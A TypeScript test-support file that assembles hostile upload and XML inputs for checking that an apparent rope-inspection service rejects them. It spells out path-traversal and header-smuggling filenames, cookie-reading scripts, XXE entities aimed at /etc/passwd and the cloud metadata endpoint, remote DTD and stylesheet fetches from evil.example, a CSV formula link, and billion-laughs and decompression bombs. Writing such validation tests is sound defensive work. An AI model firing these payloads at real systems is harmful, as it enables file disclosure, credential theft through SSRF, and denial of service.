import { encodeMea } from '@rope/domain/mrt/mea/encode';
import { generateMea } from '@rope/domain/mrt/mea/generate';
import { OFFSET } from '@rope/domain/mrt/mea/layout';
import { forgedPng, png, TINY_JPEG } from '../support/images.ts';
import { PDF } from '../support/multipart.ts';

/** One hostile file of the battery: its bytes, the name it comes with, and what the upload must answer. */
export interface HostileFile {
  label: string;
  filename: string;
  content: Buffer;
  /** `refuse`: a 4xx and nothing stored. `either`: taken or refused, but never a 500 and never a file out of place. */
  expect: 'refuse' | 'either';
}

/** What kind of file an upload takes: the corpus aimed at it follows. */
export type UploadKind = 'image' | 'document' | 'csv' | 'mea';

const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
/** The start of a Windows executable: `MZ`, the DOS stub, the PE offset. */
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(200, 0x90)]);
/** A ZIP archive's local file header (what an Office file or a zip bomb starts with). */
const ZIP = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0, 0, 0, 0x21, 0]),
  Buffer.from('bomb.txt'),
  Buffer.alloc(400, 0),
]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120, 0)]);

/** Names a client may send: never a path the file lands on, never a name that breaks a header or a listing. */
export const TRAVERSAL_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/shadow',
  'C:\\boot.ini',
  'a\u0000b.png',
  `${'x'.repeat(5000)}.png`,
  '\u202egnp.exe',
  'CON',
  '.htaccess',
  'name"; filename="evil.html',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
];

/**
 * Texts no field may store, whatever its schema: PostgreSQL's text and jsonb refuse NUL, and jsonb refuses a
 * surrogate half without its pair (`\\ud800` in the JSON). Sent as a JSON string they arrive escaped, as a
 * client would send them. A proper pair (an emoji) is valid and is read back by the valid battery.
 */
export const HOSTILE_TEXTS: { label: string; text: string }[] = [
  { label: 'NUL', text: 'a\u0000b' },
  { label: 'a lone high surrogate', text: 'x\ud800y' },
  { label: 'a lone low surrogate', text: 'x\udc00y' },
  { label: 'a high surrogate at the end', text: 'x\udbff' },
  { label: 'a reversed surrogate pair', text: 'x\ude00\ud83dy' },
];

/** A valid file of the kind, for the names and the counts. */
export function validFileOf(kind: UploadKind): { filename: string; content: Buffer } {
  switch (kind) {
    case 'image':
      return { filename: 'plan.png', content: png(8, 8) };
    case 'document':
      return { filename: 'report.pdf', content: PDF };
    case 'csv':
      return { filename: 'tasks.csv', content: Buffer.from('title,description\nCheck the splice,At the bull wheel\n') };
    case 'mea':
      return { filename: 'run.mea', content: Buffer.from(generateMea({ bitDepth: 12, lengthM: 20 }).bytes) };
  }
}

/** Every kind gets these: wrong types by content, empty, executables, archives, markup. */
function commonCorpus(kind: UploadKind): HostileFile[] {
  const { filename } = validFileOf(kind);
  const named = (label: string, content: Buffer): HostileFile => ({ label, filename, content, expect: 'refuse' });
  return [
    named('empty file', Buffer.alloc(0)),
    named('HTML by content', HTML),
    named('SVG with a script', SVG),
    named('Windows executable', EXE),
    named('ELF executable', ELF),
    ...(kind === 'document' ? [] : [named('ZIP archive', ZIP)]),
    ...(kind === 'document' ? [{ label: 'ZIP archive', filename, content: ZIP, expect: 'either' as const }] : []),
  ];
}

const pngWithHtml = () => Buffer.concat([png(8, 8), HTML]);
const jpegWithZip = () => Buffer.concat([TINY_JPEG, ZIP]);

function imageCorpus(): HostileFile[] {
  const refuse = (label: string, content: Buffer, filename = 'plan.png'): HostileFile => ({
    label,
    filename,
    content,
    expect: 'refuse',
  });
  return [
    refuse('PNG with HTML appended (polyglot)', pngWithHtml()),
    refuse('JPEG with a ZIP appended (polyglot)', jpegWithZip(), 'plan.jpg'),
    refuse('PNG decompression bomb', forgedPng(100, 100, 50_000_000)),
    refuse('PNG of 20000 x 20000 pixels', forgedPng(20_000, 20_000, 1)),
    refuse('truncated PNG', png(64, 64).subarray(0, 60)),
    refuse('truncated JPEG', TINY_JPEG.subarray(0, TINY_JPEG.length - 20), 'plan.jpg'),
    refuse('GIF', Buffer.from('GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;'), 'plan.gif'),
    refuse('PDF named .png', PDF),
  ];
}

function documentCorpus(): HostileFile[] {
  const either = (label: string, content: Buffer, filename: string): HostileFile => ({
    label,
    filename,
    content,
    expect: 'either',
  });
  return [
    either('PNG with HTML appended (polyglot)', pngWithHtml(), 'scan.png'),
    either('JPEG with a ZIP appended (polyglot)', jpegWithZip(), 'scan.jpg'),
    either(
      'PDF with JavaScript',
      Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n'),
      'a.pdf',
    ),
    {
      label: 'XML with an external entity',
      filename: 'a.xml',
      content: Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
      expect: 'refuse',
    },
    {
      label: 'text with NUL bytes',
      filename: 'a.txt',
      content: Buffer.from('plain\u0000text\u0000'),
      expect: 'refuse',
    },
  ];
}

function csvCorpus(): HostileFile[] {
  const refuse = (label: string, text: string | Buffer): HostileFile => ({
    label,
    filename: 'tasks.csv',
    content: Buffer.isBuffer(text) ? text : Buffer.from(text),
    expect: 'refuse',
  });
  const either = (label: string, text: string): HostileFile => ({ ...refuse(label, text), expect: 'either' });
  return [
    refuse('NUL bytes', 'title,description\nA\u0000,B\n'),
    refuse('an unclosed quote', 'title,description\n"A,B\nC,D\n'),
    refuse('only a header', 'title,description\n'),
    refuse('10,000 columns', `${Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',')}\nA\n`),
    refuse('a title of 100,000 characters', `title,description\n${'t'.repeat(100_000)},B\n`),
    refuse('UTF-16 without a BOM', Buffer.from('title,description\nA,B\n', 'utf16le')),
    either('formula cells', 'title,description\n"=HYPERLINK(""http://evil.example"",""x"")",@SUM(1+1)\n'),
    either('a BOM and CRLF line ends', '\uFEFFtitle,description\r\nA,B\r\n'),
    either('lone CR line ends', 'title,description\rA,B\r'),
  ];
}

/** A valid file with one header field or the payload set to a hostile value. */
function forgedMea(label: string, change: (bytes: Buffer, view: DataView) => unknown): HostileFile {
  const bytes = Buffer.from(encodeMea(generateMea({ bitDepth: 24, lengthM: 10 }).file));
  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
  const changed = change(bytes, view);
  return { label, filename: 'run.mea', content: Buffer.isBuffer(changed) ? changed : bytes, expect: 'refuse' };
}

function meaCorpus(): HostileFile[] {
  return [
    forgedMea('header cut short', (bytes) => bytes.subarray(0, 30)),
    forgedMea('samples cut short', (bytes) => bytes.subarray(0, bytes.length - 7)),
    forgedMea('bytes after the samples', (bytes) => Buffer.concat([bytes, Buffer.from('trailing')])),
    forgedMea('wrong magic', (bytes) => {
      bytes.write('MZMZ', OFFSET.magic, 'latin1');
    }),
    forgedMea('version 99', (_bytes, view) => view.setUint16(OFFSET.version, 99, true)),
    forgedMea('header length 4 GB', (_bytes, view) => view.setUint16(OFFSET.headerBytes, 0xffff, true)),
    forgedMea('bit depth 16', (_bytes, view) => view.setUint8(OFFSET.bitDepth, 16)),
    forgedMea('no channels', (_bytes, view) => view.setUint8(OFFSET.channelCount, 0)),
    forgedMea('255 channels', (_bytes, view) => view.setUint8(OFFSET.channelCount, 255)),
    forgedMea('4 billion samples', (_bytes, view) => view.setUint32(OFFSET.sampleCount, 0xffffffff, true)),
    forgedMea('no samples', (_bytes, view) => view.setUint32(OFFSET.sampleCount, 0, true)),
    forgedMea('sample spacing 0', (_bytes, view) => view.setUint32(OFFSET.sampleSpacingUm, 0, true)),
    forgedMea('a payload whose checksum is wrong', (bytes) => {
      bytes[bytes.length - 1] = (bytes[bytes.length - 1]! + 1) & 0xff;
    }),
  ];
}

/** The whole corpus for an upload of `kind`. */
export function hostileFilesFor(kind: UploadKind): HostileFile[] {
  const specific = { image: imageCorpus, document: documentCorpus, csv: csvCorpus, mea: meaCorpus }[kind]();
  return [...commonCorpus(kind), ...specific];
}

/** Inspection XML (a body, not a file): entities, bombs and hostile structure. */
export const HOSTILE_XML: { label: string; body: string | Buffer }[] = [
  {
    label: 'billion laughs',
    body: `<?xml version="1.0"?><!DOCTYPE i [${Array.from({ length: 10 }, (_, i) =>
      i === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
    ).join('')}]><inspection>&l9;</inspection>`,
  },
  {
    label: 'external entity (file)',
    body: '<?xml version="1.0"?><!DOCTYPE i [<!ENTITY e SYSTEM "file:///etc/passwd">]><inspection>&e;</inspection>',
  },
  {
    label: 'external entity (http)',
    body: '<?xml version="1.0"?><!DOCTYPE i [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]><inspection>&e;</inspection>',
  },
  {
    label: 'parameter entity',
    body: '<?xml version="1.0"?><!DOCTYPE i [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><inspection/>',
  },
  { label: 'nested 10,000 deep', body: `<inspection>${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}</inspection>` },
  {
    label: '100,000 attributes',
    body: `<inspection ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
  },
  {
    label: 'invalid UTF-8',
    body: Buffer.concat([Buffer.from('<inspection>'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('</inspection>')]),
  },
  { label: 'not XML at all', body: '{"inspection": true}' },
  {
    label: 'over 5 MiB',
    body: `<inspection><description>${'x'.repeat(5 * 1024 * 1024 + 1)}</description></inspection>`,
  },
  {
    label: 'a processing instruction to a stylesheet',
    body: '<?xml-stylesheet href="http://evil.example/x.xsl"?><inspection/>',
  },
];
